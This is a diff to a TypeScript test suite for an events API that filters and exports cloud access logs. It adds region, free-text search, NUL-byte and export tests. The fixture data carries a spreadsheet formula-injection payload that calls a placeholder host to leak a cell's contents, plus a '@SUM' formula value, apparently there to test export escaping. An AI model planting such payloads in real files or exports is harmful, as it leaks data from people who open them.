@@ -60,6 +60,13 @@ const names = ["ListFoundationModels", "ListModels", "GetCallerIdentity", "Descr
 const sources = ["bedrock.amazonaws.com", "sagemaker.amazonaws.com", "sts.amazonaws.com"];
 const errors = ["AccessDeniedException", "AccessDenied", null];
 const credentials = ["long_term_key", "temporary", "bedrock_api_key", "console_session"] as const;
+const regions = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-northeast-1", "sa-east-1", "ca-central-1"];
+/** Free text for `q`: LIKE's wildcards and escape character as plain text, and near misses without them. */
+const messages: Record<number, string> = {
+  20: "Denied Bedrock for 1000 calls",
+  21: "Denied_Bedrock for 100% of calls",
+  22: "DeniedXBedrock",
+};
 
 function pick<T>(list: readonly T[], i: number): T {
   return list[i % list.length] as T;
@@ -118,8 +125,15 @@ beforeAll(async () => {
       eventSource: pick(sources, i),
       errorCode: pick(errors, i),
       credentialType: pick(credentials, i),
+      awsRegion: pick(regions, i),
       uploadId: i % 5 === 0 ? upload.id : null,
-      userAgent: i === 7 ? '=HYPERLINK("http://evil.example/?leak="&A1,"click")' : pick(["aws-cli/2.15.0", "Boto3"], i),
+      userAgent:
+        i === 7
+          ? '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+          : i === 23
+            ? "agent\\with\\backslashes"
+            : pick(["aws-cli/2.15.0", "Boto3"], i),
+      ...(messages[i] ? { errorMessage: messages[i] } : {}),
       principalName: i === 11 ? "@SUM(1+1)" : "name",
     }),
   );
@@ -190,6 +204,76 @@ describe("GET /api/v1/events", () => {
     }
   });
 
+  it("filters by exact region, like the other exact filters", async () => {
+    const cases: [string, (e: (typeof stored)[number]) => boolean, number][] = [
+      ["awsRegion=eu-west-1", (e) => e.awsRegion === "eu-west-1", 19],
+      [
+        "awsRegion=%20sa-east-1%20&credentialType=temporary",
+        (e) => e.awsRegion === "sa-east-1" && e.credentialType === "temporary",
+        5,
+      ],
+      // Exact: neither another case nor a part matches.
+      ["awsRegion=EU-WEST-1", () => false, 0],
+      ["awsRegion=eu-west", () => false, 0],
+    ];
+    for (const [search, matches, count] of cases) {
+      const expected = stored.filter(matches);
+      expect(expected, search).toHaveLength(count);
+      const { status, body } = await getJson(routes.list, `/api/v1/events?${search}&pageSize=500`);
+      expect(status, search).toBe(200);
+      expect(
+        body.data.map((row: { id: string }) => row.id),
+        search,
+      ).toEqual(expected.map((e) => e.id));
+    }
+  });
+
+  it("searches free text in any case: part of a name, source, error or user agent, or a whole event or request id", async () => {
+    const event = stored[42] as (typeof stored)[number];
+    /** What `q` should match, computed here rather than in SQL. */
+    const matches = (q: string) => (e: (typeof stored)[number]) => {
+      const needle = q.trim().toLowerCase();
+      const parts = [e.eventName, e.eventSource, e.errorCode, e.errorMessage, e.userAgent];
+      const wholes = [e.eventId, e.requestId];
+      return (
+        parts.some((value) => value?.toLowerCase().includes(needle)) ||
+        wholes.some((value) => value?.toLowerCase() === needle)
+      );
+    };
+    const cases: [string, number][] = [
+      ["listmodels", 33],
+      [" SAGEMAKER ", 43],
+      ["accessdenied", 87],
+      ["boto", 63],
+      [event.eventId.toUpperCase(), 1],
+      [event.requestId as string, 1],
+      // Part of an id is not enough: ids match whole.
+      [event.eventId.slice(0, 13), 0],
+      // LIKE's metacharacters are plain characters.
+      ["Denied_Bedrock", 1],
+      ["100%", 1],
+      ["%", 1],
+      ["_", 1],
+      ["\\", 1],
+      ["Denied%Bedrock", 0],
+    ];
+    for (const [q, count] of cases) {
+      const expected = stored.filter(matches(q));
+      expect(expected, q).toHaveLength(count);
+      const { status, body } = await getJson(routes.list, `/api/v1/events?q=${encodeURIComponent(q)}&pageSize=500`);
+      expect(status, q).toBe(200);
+      expect(body.total, q).toBe(count);
+      expect(
+        body.data.map((row: { id: string }) => row.id),
+        q,
+      ).toEqual(expected.map((e) => e.id));
+    }
+    // With other filters, all apply.
+    const { body } = await getJson(routes.list, "/api/v1/events?q=denied&credentialType=temporary&pageSize=500");
+    const expected = stored.filter((e) => matches("denied")(e) && e.credentialType === "temporary");
+    expect(body.data.map((row: { id: string }) => row.id)).toEqual(expected.map((e) => e.id));
+  });
+
   it("filters by an inclusive time range, and pages a filtered result with its own total", async () => {
     const from = new Date("2026-01-10T12:00:00Z");
     const to = new Date("2026-01-11T12:00:00Z");
@@ -204,10 +288,27 @@ describe("GET /api/v1/events", () => {
   });
 
   it("refuses bad filters with 400 and the error envelope", async () => {
-    for (const search of ["credentialType=root", "upload=not-a-uuid", "from=2026-02-01&to=2026-01-01", "from=soon"]) {
+    for (const search of [
+      "credentialType=root",
+      "upload=not-a-uuid",
+      "from=2026-02-01&to=2026-01-01",
+      "from=soon",
+      `q=${"x".repeat(201)}`,
+    ]) {
       const { status, body } = await getJson(routes.list, `/api/v1/events?${search}`);
       expect(status, search).toBe(400);
       expect(body.error.code, search).toBe("INVALID_INPUT");
+    }
+  });
+
+  it("refuses a NUL byte in any text filter with a 400 that names the filter (not a database error)", async () => {
+    for (const field of ["q", "principal", "ip", "accessKeyId", "eventName", "eventSource", "errorCode", "awsRegion"]) {
+      for (const route of [routes.list, routes.exportFile]) {
+        const { status, body } = await getJson(route, `/api/v1/events?${field}=Access%00Denied`);
+        expect(status, field).toBe(400);
+        expect(body.error.code, field).toBe("INVALID_INPUT");
+        expect(body.error.message, field).toContain(`${field}: must not contain a NUL byte`);
+      }
     }
   });
 
@@ -285,6 +386,21 @@ describe("GET /api/v1/events/export", () => {
     for await (const line of exports.rawEventsForExport({ upload: uploadId }, 4)) lines.push(line);
     const expected = stored.filter((e) => e.uploadId === uploadId);
     expect(lines.map((line) => JSON.parse(line).eventID).sort()).toEqual(expected.map((e) => e.eventId).sort());
+  });
+
+  it("takes the region and free text filters", async () => {
+    const response = await get(routes.exportFile, "/api/v1/events/export?q=denied_bedrock&awsRegion=us-east-1");
+    const [, ...rows] = parse(await response.text()) as string[][];
+    const expected = stored.filter((e) => e.errorMessage?.startsWith("Denied_Bedrock") && e.awsRegion === "us-east-1");
+    expect(expected).toHaveLength(1);
+    expect(rows.map((row) => row[0])).toEqual(expected.map((e) => e.id));
+
+    const lines = await get(routes.exportFile, "/api/v1/events/export?format=jsonl&q=%25");
+    const events = (await lines.text())
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
+    expect(events.map((e) => e.eventID)).toEqual(expected.map((e) => e.eventId));
   });
 
   it("refuses an unknown format", async () => {
